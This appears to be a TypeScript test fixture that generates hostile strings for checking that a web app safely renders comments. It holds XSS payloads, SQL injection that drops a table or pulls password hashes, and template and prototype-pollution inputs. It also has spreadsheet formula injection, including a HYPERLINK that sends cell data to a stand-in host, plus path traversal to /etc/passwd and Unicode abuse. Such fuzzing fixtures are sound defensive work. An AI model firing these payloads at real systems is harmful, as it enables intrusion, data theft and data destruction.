/*
 * Words that somebody writes who wants a page to break: to run what they wrote, to leave its frame, to be read by a machine as
 * something else. Each says `hostileN`, so that it can be looked for; what would run says so in `window.flooded`.
 */

const RUN = 'window.flooded=1';

const KINDS: readonly ((mark: string) => string)[] = [
  (mark) => `<script>${RUN}</script>${mark}`,
  (mark) => `</script><script>${RUN}</script>${mark}`,
  (mark) => `<img src=x onerror="${RUN}">${mark}`,
  (mark) => `"><svg/onload=${RUN}>${mark}`,
  (mark) => `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='${mark}`,
  (mark) => `<iframe srcdoc="<script>parent.flooded=1</script>"></iframe>${mark}`,
  (mark) => `<math><mi//xlink:href="data:x,<script>${RUN}</script>">${mark}`,
  (mark) => `<style>*{display:none!important}</style>${mark}`,
  (mark) => `<!--${mark}--!><![CDATA[${mark}]]>]]&gt;`,
  (mark) => `javascript:${RUN}//${mark}`,
  (mark) => `[${mark}](javascript:${RUN})`,
  (mark) => `\u202e${mark}\u202e tfel ot thgir`,
  (mark) => `\u2066\u2067\u2068${mark}\u200f\u200e\u061c`,
  (mark) => [...mark].map((letter) => `${letter}${'\u0300\u0489\u0316\u035c'.repeat(12)}`).join('') + mark,
  (mark) => `${mark}${'\u0301'.repeat(400)}`,
  (mark) => `${mark}'; DROP TABLE "Comment"; --`,
  (mark) => `${mark}' OR '1'='1' UNION SELECT "passwordHash" FROM "User" --`,
  (mark) => `{{${mark}}}{{constructor.constructor('${RUN}')()}}`,
  (mark) => `\${${mark}}#{${RUN}}<%= ${RUN} %>`,
  (mark) => `{count, plural, one {${mark}} other {#}} {name} <b>{x}`,
  (mark) => `${mark}${'W'.repeat(300)}`,
  (mark) => `${mark}${'\u5b57'.repeat(200)}`,
  (mark) => `=HYPERLINK("http://elsewhere.example/?"&A1,"${mark}")`,
  (mark) => `=cmd|' /C calc'!A0 ${mark}`,
  (mark) => `+1+1 ${mark}`,
  (mark) => `-2+3 ${mark}`,
  (mark) => `@SUM(1+1) ${mark}`,
  (mark) => `${mark}","=1+1",\r\n"next`,
  (mark) => `${mark}\u2028\u2029]}"`,
  (mark) => `0:["$","script",null,{"children":"${RUN}"}]\n1:${mark}`,
  (mark) => `$L1 $undefined $@2 ${mark}`,
  (mark) => `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e ${mark}`,
  (mark) => `${mark} ${'👩‍👩‍👧‍👦'.repeat(40)}`,
  (mark) => `${mark} 🏴‍☠️🇰🇬${'\u{1F3FF}'.repeat(30)}\u200d\u200d\ufe0f`,
  (mark) => `__proto__ ${mark} constructor prototype toString hasOwnProperty`,
  (mark) => `{"__proto__":{"polluted":"${mark}"}}`,
  (mark) => `&lt;script&gt;${RUN}&lt;/script&gt; &#0; &#x202e; &${mark};`,
  (mark) => `${mark}\u200b\u200c\u200d\ufeff\u2060\u00ad`,
  (mark) => `../../../../etc/passwd%00${mark}%0d%0aSet-Cookie:%20x=1`,
  (mark) => `\u{E0001}\u{E0041}\uFFFF\uFDD0${mark}`,
  (mark) => `data: ${mark}\n\nevent: change\ndata: {"type":"${mark}"}`,
];

/** The one with this number: its kinds take turns. */
export function hostile(number: number): string {
  const kind = KINDS[number % KINDS.length];
  return kind ? kind(`hostile${number}`) : '';
}

/** Five thousand characters of marks on one letter: as long as a comment may be. */
export const ALL_MARKS = `Z${'\u0310\u0300\u0489'.repeat(1_666)}`;
